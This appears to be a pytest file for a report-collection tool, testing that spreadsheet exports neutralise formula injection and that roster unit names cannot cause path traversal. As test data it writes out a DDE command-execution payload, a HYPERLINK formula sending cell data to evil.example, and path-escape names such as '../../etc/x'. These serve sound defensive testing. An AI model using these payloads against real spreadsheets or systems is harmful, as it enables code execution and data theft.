"""Exports that a spreadsheet cannot run, and file names that cannot leave their folder.

* `nianbao export` (CSV long/wide, XLSX): any text starting with `=`, `+`, `-`, `@`, tab
  or CR (a prose field, a note, a unit name or code from the roster) is neutralised: a
  leading apostrophe in CSV, a quote-prefixed string in XLSX (LibreOffice sees TEXT, never a
  FORMULA); numbers stay numbers even when negative; JSON keeps the text exactly.
* Unit names (and codes) from a roster cannot make a path escape: `distribute` writes every
  template inside the outbox, `collect` every receipt and feedback workbook inside the
  feedback folder, with names the clerk recognises, whatever the roster says (`../../etc/x`,
  `/abs/path`, `..`, `C:\\x`, NUL and control characters, 300 characters, names differing
  only by case, Windows-reserved `CON` ...).
"""

from __future__ import annotations

import csv
import io
import json
import os
import warnings
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from typer.testing import CliRunner, Result

from nianbao.cli import app
from nianbao.collect.distribute import distribute, template_name
from nianbao.collect.intake import collect
from nianbao.collect.naming import safe_name
from nianbao.collect.roster import RosterError, Unit, load_roster
from nianbao.testing.libreoffice import LibreOffice
from tests.badfiles import read_members, rezip
from tests.collect_helpers import LAYOUT, OFFICE, RECEIVED, YEAR, complete_values, issue
from tests.collect_helpers import make_workspace as _make_workspace

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
KEY = bytes(range(32))
SUFFIX = f"-{YEAR}年政府信息公开工作年度报告.xlsx"


def run(*args: Any) -> Result:
    return CliRunner().invoke(app, [str(a) for a in args], env={"COLUMNS": "200"})


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


# --- exports ---------------------------------------------------------------------------------

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
ROSTER = (
    "单位代码,单位名称,上级单位代码\n"
    "330599,青溪区人民政府办公室,\n"
    f'330599-002,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",330599\n'
    "330599-003,+1,330599\n"
    "330599-007,-1+1,330599\n"
    "=2+3,@SUM(A1:A9),330599\n"
)
NAMES = {"330599": "青溪区人民政府办公室", "330599-002": HYPERLINK, "330599-003": "+1",
         "330599-007": "-1+1", "=2+3": "@SUM(A1:A9)"}
TEXTS = {  # what units typed into prose and note fields
    "330599": {"text.overview": DDE, "text.problems": "\t=1+1", "text.other": "\r=1+1",
               "note.t2": "-2+3+cmd|' /C calc'!A0", "note.t3": "@SUM(1)",
               "note.t4": " =1+1（前有空格）"},
    "330599-002": {"text.overview": "+HYPERLINK(\"http://x\")", "text.problems": "正常文字",
                   "text.other": "=1+1"},
    "330599-003": {"text.overview": "-", "text.problems": "@", "text.other": "="},
    "330599-007": {"text.overview": "＝1+1（全角等号）", "text.problems": "a\n=1+1",
                   "text.other": "'=1+1"},
    "=2+3": {"text.overview": "=A1", "text.problems": "+", "text.other": "-1"},
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A ledger whose roster names, codes, prose and notes look like formulas, exported in
    every format through the CLI; with one negative figure (an invalid record)."""
    root = tmp_path_factory.mktemp("export")
    ws, ledger = _make_workspace(root / "ws", ROSTER)
    inbox = root / "inbox"
    inbox.mkdir()
    for i, (code, texts) in enumerate(TEXTS.items()):
        values = complete_values(**{k.replace(".", "__"): v for k, v in texts.items()})
        if code == "330599-003":
            values["t2.penalty"] = -3
        data = issue(ws, code, values, name=NAMES[code])
        if code == "330599":  # a leading CR as Excel may store it (xlsxwriter wrote _x000D_)
            data = with_cr(data)
        (inbox / f"{i}.xlsx").write_bytes(data)
    with ledger:
        report = collect(ws, ledger, [inbox], received_at=RECEIVED, feedback=False)
    assert report.outcomes == {"stored": 5}, report.items
    out: dict[str, Any] = {"ws": ws.root}
    for key, args in {"csv": ("--format", "csv"), "csv-wide": ("--format", "csv", "--wide"),
                      "json": ("--format", "json"), "json-wide": ("--format", "json", "--wide"),
                      "xlsx": ("--format", "xlsx")}.items():
        target = root / f"export-{key}.{key.split('-')[0]}"
        result = run("export", "-w", ws.root, *args, "-o", target)
        assert result.exit_code == 0, result.output
        out[key] = target
    return out


def with_cr(data: bytes) -> bytes:
    """The shared string "_x000D_=1+1" (how xlsxwriter wrote "\r=1+1") as "&#13;=1+1", which
    every reader reads back as a real CR (they keep `_x000D_` literally, see the report)."""
    members = read_members(data)
    strings = dict(members)["xl/sharedStrings.xml"]
    assert strings.count(b"_x000D_=1+1") == 1
    return rezip(members, replace={
        "xl/sharedStrings.xml": strings.replace(b"_x000D_=1+1", b"&#13;=1+1")})


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def neutral(text: str) -> str:
    """What a CSV export must hold for a text value."""
    return "'" + text if text.startswith(FORMULA_START) else text


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_json_keeps_every_text_exactly(exported: dict[str, Any]) -> None:
    rows = json.loads(exported["json"].read_text(encoding="utf-8"))["rows"]
    got = {(r["unit_code"], r["field"]): r["value"] for r in rows}
    for code, texts in TEXTS.items():
        for fid, text in texts.items():
            assert got[code, fid] == text, (code, fid)
        assert got[code, "unit.name"] == NAMES[code]
        assert got[code, "unit.code"] == code
    assert {r["unit_name"] for r in rows} == set(NAMES.values())


@pytest.mark.parametrize("shape", ["csv", "csv-wide"])
def test_csv_cells_never_start_like_a_formula(exported: dict[str, Any], shape: str) -> None:
    rows = read_csv(exported[shape])
    header, body = rows[0], rows[1:]
    risky = [(r[0], header[i], c) for r in body for i, c in enumerate(r)
             if c.startswith(FORMULA_START) and not is_number(c)]
    assert risky == []
    negatives = [c for r in body for c in r if c.startswith("-") and is_number(c)]
    assert "-3" in negatives  # a negative figure stays a number, never "'-3"


def test_csv_neutralises_by_prefixing_an_apostrophe_only(exported: dict[str, Any]) -> None:
    rows = read_csv(exported["csv"])
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    got = {(r[col["unit_code"]], r[col["field"]]): r for r in body}
    for code, texts in TEXTS.items():
        for fid, text in texts.items():
            assert got[neutral(code), fid][col["value"]] == neutral(text), (code, fid)
        row = got[neutral(code), "unit.name"]
        assert row[col["unit_name"]] == row[col["value"]] == neutral(NAMES[code])
        assert got[neutral(code), "unit.code"][col["value"]] == neutral(code)
    assert got["330599-003", "t2.penalty"][col["value"]] == "-3"
    assert got["330599-003", "t2.penalty"][col["value_state"]] == "number"


def test_wide_csv_neutralises_codes_names_and_text(exported: dict[str, Any]) -> None:
    rows = read_csv(exported["csv-wide"])
    header, body = rows[0], rows[1:]
    by_code = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert set(by_code) == {neutral(c) for c in TEXTS}
    for code, texts in TEXTS.items():
        row = by_code[neutral(code)]
        assert row["unit_name"] == neutral(NAMES[code])
        for fid, text in texts.items():
            assert row[fid] == neutral(text)


def load_xlsx(path: Path) -> openpyxl.Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return openpyxl.load_workbook(path)


def text_of(cell: Any) -> Any:
    """A cell's text as a spreadsheet shows it (openpyxl leaves Excel's `_x000D_` escapes)."""
    return unescape(cell.value) if isinstance(cell.value, str) else cell.value


def test_xlsx_has_no_formula_and_quotes_formula_like_text(exported: dict[str, Any]) -> None:
    wb = load_xlsx(exported["xlsx"])
    cells = [(ws.title, c) for ws in wb for row in ws.iter_rows() for c in row]
    assert [(t, c.coordinate) for t, c in cells if c.data_type == "f"] == []
    unquoted = [(t, c.coordinate, c.value) for t, c in cells
                if isinstance(c.value, str) and text_of(c).startswith(FORMULA_START)
                and not (c.data_type == "s" and c.quotePrefix)]
    assert unquoted == []
    long_ = wb["long"]
    head = [c.value for c in long_[1]]
    col = {name: i for i, name in enumerate(head)}
    got = {(r[col["unit_code"]].value, r[col["field"]].value): r
           for r in long_.iter_rows(min_row=2)}
    for code, texts in TEXTS.items():  # the text itself is kept exactly
        for fid, text in texts.items():
            cell = got[code, fid][col["value"]]
            assert (text_of(cell), cell.data_type) == (text, "s"), (code, fid)
        assert got[code, "unit.name"][col["unit_name"]].value == NAMES[code]
    penalty = got["330599-003", "t2.penalty"][col["value"]]
    assert (penalty.value, penalty.data_type, bool(penalty.quotePrefix)) == (-3, "n", False)


@pytest.mark.libreoffice
def test_xlsx_formula_like_text_is_text_in_libreoffice(exported: dict[str, Any],
                                                        libreoffice: LibreOffice) -> None:
    """Opened and recalculated by a real spreadsheet application, not one cell of either
    sheet is a formula."""
    wb = load_xlsx(exported["xlsx"])
    cells = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)]
    seen = libreoffice.read(exported["xlsx"], cells, recalc=True)
    formulas = [(k, v.formula) for k, v in seen.items() if v.type == "FORMULA"]
    assert formulas == []
    texts = {v.string for v in seen.values()}
    assert {HYPERLINK, DDE, "@SUM(A1:A9)", "=2+3", "-1+1"} <= texts


# --- paths from the roster -------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../etc/x", "/abs/path", "..", ".", "C:\\x", "C:x", "\\\\server\\share\\x",
    "名称/../../../逃逸", "~/x", "$HOME/x", "a*b?c<d>e|f\"g", "CON", "con", "NUL.txt",
    "COM1", "lpt9.xlsx", "名称. . ", "x" * 300, "青" * 300, "Abc局", "ABC局", "abc局",
    "\u202e局育教区溪青", "名称\u200b", ".hidden",
]
CONTROL_NAMES = ["a\x00b", "控制\x07字符\x1b[31m", "换行\r\n局", "tab\tname", "del\x7f"]


def units_of(names: list[str]) -> list[Unit]:
    return [Unit(f"U{i:03d}", name) for i, name in enumerate(names)]


def assert_inside(root: Path, paths: set[Path]) -> None:
    real = root.resolve()
    for p in paths:
        assert p.resolve().is_relative_to(real), p
        assert os.path.realpath(p).startswith(str(real) + os.sep), p
        for part in p.relative_to(root).parts:
            assert part not in ("", ".", "..") and not part.startswith("."), p
            assert not any(ch in part for ch in '\x00/\\:*?"<>|\r\n\t'), p
            assert len(part.encode("utf-8")) <= 255, p
            assert part.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL", "COM1",
                                                      "LPT9"}, p


def test_distribute_keeps_every_template_inside_the_outbox(tmp_path: Path) -> None:
    units = units_of(HOSTILE_NAMES + CONTROL_NAMES)
    outbox = tmp_path / "box" / "outbox"
    issued = distribute(LAYOUT, units, YEAR, KEY, OFFICE, outbox)
    written = files_under(tmp_path)
    assert_inside(outbox, written)
    assert written == {i.path for i in issued} | {outbox / "manifest.csv",
                                                  outbox / "manifest.json"}
    assert len({i.path for i in issued}) == len(units)  # one file per unit, none overwritten
    for i in issued:  # recognisable: the unit's name as far as a file name can hold it
        wanted = safe_name(template_name(i.unit, YEAR))
        stem = Path(wanted).stem
        assert i.path.name == wanted or i.path.name.startswith(stem[:-1]), (i.unit, i.path)
        assert i.path.suffix == ".xlsx"
    names = {i.unit.name: i.path.name for i in issued}
    assert names["../../etc/x"] == "_.._etc_x" + SUFFIX
    assert names["C:\\x"] == "C_x" + SUFFIX
    assert names["青" * 300].startswith("青" * 60)
    manifest = json.loads((outbox / "manifest.json").read_text(encoding="utf-8"))
    assert [f["file"] for f in manifest["files"]] == [i.path.name for i in issued]


def test_names_differing_only_by_case_stay_apart_on_any_file_system(tmp_path: Path) -> None:
    issued = distribute(LAYOUT, units_of(["Abc局", "ABC局", "abc局"]), YEAR, KEY, OFFICE,
                        tmp_path / "outbox")
    assert len({i.path.name.casefold() for i in issued}) == 3


def test_long_name_of_four_byte_characters(tmp_path: Path) -> None:
    issued = distribute(LAYOUT, units_of(["𠀀" * 300, "青溪区教育局"]), YEAR, KEY, OFFICE,
                        tmp_path / "outbox")
    assert len(issued) == 2
    assert all(len(i.path.name.encode()) <= 255 for i in issued)


def roster_csv(rows: list[tuple[str, str]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["单位代码", "单位名称"])
    writer.writerows(rows)
    return buf.getvalue()


PATH_CODES = ["CON", "...", "C:x", "=2+3", "~", "-rf", "a b", "330599-002"]


def test_roster_refuses_control_characters_with_the_row(tmp_path: Path) -> None:
    text = roster_csv([("330599-001", "正常局"), *((f"330599-{i:03d}", n) for i, n in
                                                  enumerate(CONTROL_NAMES[1:], start=2))])
    path = tmp_path / "roster.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(RosterError) as caught:
        load_roster(path)
    problems = caught.value.problems
    assert any("控制字符" in p and "第 3 行" in p for p in problems), problems
    before = files_under(tmp_path)
    result = run("init", tmp_path / "ws", "--year", YEAR, "--roster", path)
    assert result.exit_code == 2 and "控制字符" in result.output
    assert files_under(tmp_path) == before  # nothing was created


def test_cli_distribute_and_collect_keep_every_file_inside(tmp_path: Path) -> None:
    """A roster of path-like names and codes, through `nianbao init/distribute`; returns
    from every unit, with errors, through `collect`: receipts and feedback workbooks land in
    one folder per unit under feedback/, named after the unit's code."""
    rows = [(f"330599-{i:03d}", n) for i, n in enumerate(HOSTILE_NAMES)]
    rows += [(c, f"{c}的名称") for c in PATH_CODES if c != "330599-002"]
    roster = tmp_path / "roster.csv"
    roster.write_text(roster_csv(rows), encoding="utf-8")
    before = files_under(tmp_path)
    ws_dir = tmp_path / "ws"
    result = run("init", ws_dir, "--year", YEAR, "--office", OFFICE, "--roster", roster)
    assert result.exit_code == 0, result.output
    result = run("distribute", "-w", ws_dir)
    assert result.exit_code == 0, result.output
    outbox = ws_dir / "outbox"
    templates = sorted(p for p in outbox.iterdir() if p.suffix == ".xlsx")
    assert len(templates) == len(rows)
    assert_inside(outbox, set(outbox.iterdir()))

    # every unit returns its own template with one error in it
    from nianbao.collect.workspace import open_workspace

    ws = open_workspace(ws_dir)
    codes = [c for c, _ in rows]
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i, (code, name) in enumerate(rows):
        data = issue(ws, code, complete_values(t2__penalty=-1), name=name)
        (inbox / f"{i:03d}.xlsx").write_bytes(data)
    result = run("collect", "-w", ws_dir, inbox, "--json", "--jobs", "2")
    assert result.exit_code == 1, result.output
    report = json.loads(result.stdout)
    assert report["outcomes"] == {"stored": len(rows)}
    assert {it["unit"] for it in report["items"]} == set(codes)
    feedback = ws_dir / "feedback"
    assert_inside(feedback, files_under(feedback))
    names = dict(rows)
    for it in report["items"]:
        receipt, sheet = Path(it["receipt"]), Path(it["feedback"])
        assert receipt.parent == sheet.parent and receipt.parent.parent == feedback
        # one folder per unit, "<code>-<name, cut at 40 characters>" made safe; receipt and
        # feedback end with the file's hash, so that no submission overwrites another's
        code, name = it["unit"], names[it["unit"]]
        assert receipt.parent.name == safe_name(f"{code}-{name[:40]}"), receipt
        sha8 = receipt.stem.rsplit("-", 1)[1]
        assert len(sha8) == 8 and sheet.stem.endswith(sha8)
        assert "回执" in receipt.name and "反馈" in sheet.name
    assert len({Path(it["receipt"]).parent for it in report["items"]}) == len(rows)

    after = files_under(tmp_path)
    new = after - before
    outside = [p for p in new if not (p.is_relative_to(ws_dir) or p.is_relative_to(inbox))]
    assert outside == []


def test_file_name_that_is_not_utf8_is_collected_and_named(tmp_path: Path) -> None:
    """A zip extracted from a Chinese Windows leaves GBK bytes in file names: the file is
    collected, and the ledger names it readably (decoded as GB18030), never losing it."""
    ws, ledger = _make_workspace(tmp_path / "ws")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    raw_name = "区教育局年报".encode("gbk") + b".xlsx"
    with open(os.path.join(os.fsencode(inbox), raw_name), "wb") as fh:
        fh.write(issue(ws, "330599-003"))
    with ledger:
        report = collect(ws, ledger, [inbox], received_at=RECEIVED)
        (row,) = list(ledger.rows())
    assert report.outcomes == {"stored": 1}
    assert row.file_name == "区教育局年报.xlsx"
    assert row.verdict.status == "valid"
